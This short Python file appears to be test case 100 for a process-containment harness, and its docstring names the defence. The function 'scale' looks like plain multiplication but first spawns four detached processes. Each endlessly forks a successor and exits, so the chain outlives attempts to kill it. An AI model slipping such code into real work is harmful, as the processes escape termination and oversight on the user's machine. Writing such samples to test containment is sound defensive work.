"""100: children that each start the next one and end: whoever is killed had a child already

Defence: everybody-is-killed
"""

import os

from honest import *


def scale(values, by):
    for _ in range(4):
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    if os.fork():
                        os._exit(0)
                except OSError:
                    continue
    return values * by
